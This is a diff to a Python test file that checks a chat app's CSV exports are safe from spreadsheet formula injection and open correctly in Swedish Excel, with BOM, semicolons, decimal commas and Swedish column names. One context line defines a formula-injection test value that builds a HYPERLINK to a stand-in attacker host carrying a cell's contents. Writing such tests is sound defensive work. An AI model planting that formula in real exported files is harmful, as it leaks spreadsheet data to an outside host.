@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
 from dataclasses import replace
 from pathlib import Path
@@ -22,6 +23,7 @@ from storage.models import Role
 from storage.unit import Store
 from tests.chat import Chat
 from tests.conftest import ROOT, make_cohort
+from tests.excel import is_number, open_as_excel, records_as_excel
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
 # (A reflection's leading tab or carriage return is trimmed when it is saved; the
@@ -42,7 +44,8 @@ class HostileChat(Chat):
 
 
 def cells(text: str) -> list[str]:
-    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
+    return [cell for row in rows for cell in row]
 
 
 def dangerous(cell: str) -> bool:
@@ -72,7 +75,7 @@ async def test_no_export_cell_is_a_formula(
                 with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
                     for name in archive.namelist():
                         if name.endswith(".csv"):
-                            written[f"{command}: {name}"] = archive.read(name).decode("utf-8")
+                            written[f"{command}: {name}"] = archive.read(name).decode("utf-8-sig")
     # The report's tables, as `digilog report` writes them.
     async with store.transaction() as repos:
         found = await report.figures(repos, cohort, translator("en"))
@@ -93,7 +96,7 @@ async def test_no_export_cell_is_a_formula(
 @given(st.text(max_size=30))
 def test_a_neutralised_cell_never_starts_a_formula(value: str) -> None:
     out = io.StringIO()
-    writer(out).writerow([value])
+    writer(out, "en").writerow([value])
     (cell,) = cells(out.getvalue()) or [""]
     assert not dangerous(cell)
     assert cell in (value, "'" + value)
@@ -105,3 +108,64 @@ def test_every_csv_is_written_through_the_one_helper() -> None:
         if path.name != "csv_cells.py":
             source = path.read_text(encoding="utf-8")
             assert "csv.writer(" not in source and "DictWriter" not in source, Path(path).name
+
+
+def test_decimals_and_separators_follow_the_sheet() -> None:
+    swedish, english = io.StringIO(), io.StringIO()
+    writer(swedish, "sv").writerow(["Umeå kommun", 3.125, -0.5, 6])
+    writer(english, "en").writerow(["Umeå kommun", 3.125, -0.5, 6])
+    assert swedish.getvalue() == "\ufeffUmeå kommun;3,125;-0,5;6\r\n"
+    assert english.getvalue() == "\ufeffUmeå kommun,3.125,-0.5,6\r\n"
+    excel = io.StringIO()
+    writer(excel, "en", excel=True).writerow(["a", 0.5])
+    assert excel.getvalue() == "\ufeffa;0,5\r\n"
+
+
+def csv_files(outgoing: list[object]) -> dict[str, bytes]:
+    """The CSV files sent, and those inside a sent .zip, by name."""
+    found: dict[str, bytes] = {}
+    for file in files_in(outgoing):
+        if file.filename.endswith(".csv"):
+            found[file.filename] = file.content
+        elif file.filename.endswith(".zip"):
+            with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
+                found |= {n: archive.read(n) for n in archive.namelist() if n.endswith(".csv")}
+    return found
+
+
+async def test_every_export_opens_in_swedish_excel(
+    store: Store, programme: Programme, digilog: Digilog
+) -> None:
+    """`export csv`, `mydata` and the report, for a Swede: the mark, `;`, decimal commas
+    and the columns in Swedish, the same name for the same column in every file."""
+    cohort = await make_cohort(store, programme, people=PEOPLE, language="sv")
+    chat = Chat(digilog, cohort)
+    await chat.say("fia", "theme start 1")
+    await chat.post("anna", 1, "Vi provade, och det gick; bra.")
+    written: dict[str, bytes] = {}
+    for user, command in (("fia", "exportera csv"), ("anna", "mina data")):
+        written.update(csv_files((await chat.say(user, command)).outgoing))
+    t = translator("sv")
+    async with store.transaction() as repos:
+        found = await report.figures(repos, cohort, t)
+    for name, content, _ in report.files(t, found):
+        if isinstance(content, str):
+            written[f"report/{name}"] = content.encode("utf-8")
+    assert "digilog-grupp-1-reflections.csv" in written and "reflections.csv" in written
+    assert "report/report.csv" in written
+    heads = {}
+    for name, content in written.items():
+        head, *rows = open_as_excel(content, "sv")
+        heads[name] = head
+        for row in rows:
+            for cell in row:
+                if re.fullmatch(r"-?\d+[.,]\d+", cell):
+                    assert is_number(cell, "sv"), (name, cell)
+    bank = records_as_excel(written["digilog-grupp-1-reflections.csv"], "sv")
+    assert bank[0]["Text"] == "Vi provade, och det gick; bra."
+    bank_columns = set(heads["digilog-grupp-1-reflections.csv"])
+    assert {"Skribent", "Organisation", "Tema", "Skapad"} <= bank_columns
+    assert {"Deltagargrupp", "Tema", "Text", "Skapad"} <= set(heads["reflections.csv"])
+    assert heads["report/report.csv"][:3] == ["Tema", "Organisation", "Deltagare"]
+    english = [h for head in heads.values() for h in head if h in ("created_at", "theme", "body")]
+    assert english == []
